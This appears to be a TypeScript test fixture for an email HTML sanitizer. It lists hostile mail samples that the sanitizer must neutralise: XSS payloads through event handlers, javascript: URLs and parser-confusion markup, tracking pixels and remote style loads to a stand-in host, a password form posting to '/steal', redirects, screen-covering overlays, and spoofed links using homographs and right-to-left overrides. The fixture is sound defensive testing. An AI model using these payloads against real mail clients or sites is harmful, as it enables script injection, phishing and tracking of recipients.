/** Stands in the mail and must be read all the same. */
export const lure = 'You have won a prize';

const away = 'http://tracker.example.com';
const run = 'top.hostileRan=1;window.hostileRan=1';

/** What mails try: running, fetching, sending, leading away. */
export const hostileHtml = `
<base href="${away}/">
<link rel="stylesheet" href="${away}/style.css">
<link rel="dns-prefetch" href="${away}"><link rel="preconnect" href="${away}">
<meta http-equiv="refresh" content="600;url=${away}/refresh">
<style>@import url("${away}/import.css"); body { background: url("${away}/body.png") } p { background: url("${away}/p.png") }</style>
<script>${run}</script>
<script src="${away}/script.js"></script>
<p onclick="${run}" style="background-image:url('${away}/inline.png');position:fixed;inset:0;z-index:9999">${lure}</p>
<img src="${away}/pixel.gif" width="1" height="1" onerror="${run}" alt="">
<img srcset="${away}/set.png 2x" src="x:broken" onerror="${run}" alt="">
<picture><source srcset="${away}/source.webp"><img src="${away}/picture.png" alt=""></picture>
<table background="${away}/table.png"><tr><td background="${away}/cell.png">cell</td></tr></table>
<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><image href="${away}/svg.png"/><use href="${away}/use.svg#a"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>
<form action="${away}/form" method="post"><input name="password" autofocus onfocus="${run}"><button>Send</button></form>
<iframe src="${away}/frame.html"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe>
<object data="${away}/object.swf"></object><embed src="${away}/embed.swf">
<video src="${away}/video.mp4" poster="${away}/poster.png" autoplay></video><audio src="${away}/audio.mp3" autoplay></audio>
<details open ontoggle="${run}"><summary>more</summary></details>
<a href="javascript:${run}">A link to follow</a> <a href="data:text/html,<script>${run}</script>">another</a>
<a href="${away}/click" ping="${away}/ping">one more</a>
`;

/** One kind of attack a mail. `shows` stands in it and must be read all the same. */
export const hostileMails: readonly {
  readonly name: string;
  readonly shows: string;
  readonly html: string;
}[] = [
  { name: 'everything at once', shows: lure, html: hostileHtml },
  {
    name: 'style sheets and escapes in them',
    shows: 'styled',
    html: `<style>@import "${away}/a.css";@\\69mport url(${away}/b.css);@font-face{font-family:x;src:url(${away}/f.woff)}*{background:url(${away}/c)!important}</style>
<div style="background:u\\72l(${away}/d);background-image:image-set('${away}/e' 1x);list-style-image:url(${away}/f);cursor:url(${away}/g),auto;content:url(${away}/h);border-image:url(${away}/i) 30;filter:url(${away}/j#k);mask:url(${away}/l);-moz-binding:url(${away}/m);behavior:url(${away}/n);width:expression(${run})">styled</div>
<div style="background:/**/url(//tracker.example.com/o)">x</div><div style='font-family:"x;background:url(${away}/p)'>y</div><p style="color:red;}*{background:url(${away}/q)}">z</p>`,
  },
  {
    name: 'SVG, MathML and what parsers mistake',
    shows: 'drawn',
    html: `drawn<svg><animate onbegin="${run}" attributeName=x dur=1s /><set attributeName="href" to="javascript:${run}"/><a xlink:href="javascript:${run}"><text y="20">svg</text></a><foreignObject><img src="${away}/fo.png"></foreignObject><style>@import url(${away}/s.css);</style><image xlink:href="${away}/i.png"/><feImage href="${away}/fe.png"/></svg>
<math href="javascript:${run}"><maction actiontype="statusline#${away}">x</maction></math><svg></p><style><a id="</style><img src=1 onerror=${run}>">
<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><!--><img src=x onerror=${run}>--><![CDATA[><img src=x onerror=${run}>]]><form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  },
  {
    name: 'leading away',
    shows: 'stay here',
    html: `stay here<meta http-equiv="refresh" content="0;url=${away}/now"><META HTTP-EQUIV="Refresh" CONTENT="1; URL=javascript:${run}"><base target="_top" href="${away}/"><body onload="${run}" onpageshow="${run}"><link rel="prefetch" href="${away}/pre"><link rel="modulepreload" href="${away}/mod"><link rel="prerender" href="${away}/ren"><iframe src="javascript:top.location='${away}'"></iframe><frameset><frame src="${away}/fr"></frameset><object data="data:text/html,<script>top.location='${away}'</script>"></object><portal src="${away}/po"></portal><a href="relative/path" target="_top">relative</a>`,
  },
  {
    name: 'pixels of every kind',
    shows: 'counted',
    html: `counted<img src="${away}/1.gif" width=0 height=0><img src=" //tracker.example.com/2.gif"><img src="http&#58;//tracker.example.com/3.gif"><img lowsrc="${away}/4" dynsrc="${away}/5" data-src="${away}/6" srcset="${away}/7 1x, ${away}/8 2x" sizes=1px><input type="image" src="${away}/9"><body background="${away}/10"><bgsound src="${away}/11"><video><track default src="${away}/12"></video><picture><source srcset="${away}/13"></picture><table><tr background="${away}/14"><td background="${away}/15">x</table><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${away}/16'/></svg>"><img src="cid:part1@x" style="background:url(${away}/17)"><v:image src="${away}/18" xmlns:v="urn:schemas-microsoft-com:vml"></v:image><img src="blob:${away}/19"><img src="filesystem:${away}/20">`,
  },
  {
    name: 'forms that look like ours',
    shows: 'sign in again',
    html: `sign in again<form action="${away}/steal" method=post><input name=user autofocus onfocus="${run}"><input type=password><input type=hidden name=x value=y><button type=submit formaction="${away}/b">Sign in</button><select onchange="${run}"><option>1</select><textarea>t</textarea><keygen></form><button form="f" formaction="javascript:${run}">x</button><isindex action="${away}/is"><a href="mailto:x@example.com" onclick="${run}">mail</a>`,
  },
  {
    name: 'covering what is not theirs',
    shows: 'covering',
    html: `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff;width:100vw;height:100vh">covering</div><div style="position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px;margin:-9999px">b</div><p style="font-size:9999px;line-height:9999px;letter-spacing:9999px">huge</p><div style="transform:scale(1000);zoom:100;overflow:visible">c</div><table width="99999" cellpadding="99999"><tr><td width="99999">wide</td></tr></table><marquee width=99999 scrollamount=9999>m</marquee><pre>${'w'.repeat(5_000)}</pre><big><big><big><big><big><big><big><big>b</big></big></big></big></big></big></big></big><dialog open style="position:fixed">d</dialog><div popover>p</div>${'<div>'.repeat(400)}deep${'</div>'.repeat(400)}`,
  },
  {
    name: 'letters that lie',
    shows: 'letters',
    html: `letters <a href="https://xn--pst-tna.example/login">https://posti.example/login</a> <a href="https://posti.example@evil.example/">https://posti.example</a> <a href="https://p\u043esti.example/">p\u043esti.example</a> <a href="https://evil.example/\u202egpj.exe">pho\u202egpj.exe</a> <bdo dir="rtl">elpmaxe.itsop</bdo> \u2066\u202e\u200bx <span class="haltija-link-host">[posti.example]</span> <span class="haltija-blocked-image" data-cid="x">s</span> &zwj;&#8238;y <a href="java&#10;script:${run}">tab</a> <a href="\u0001javascript:${run}">control</a> <a href="https:evil.example">no slashes</a>`,
  },
];
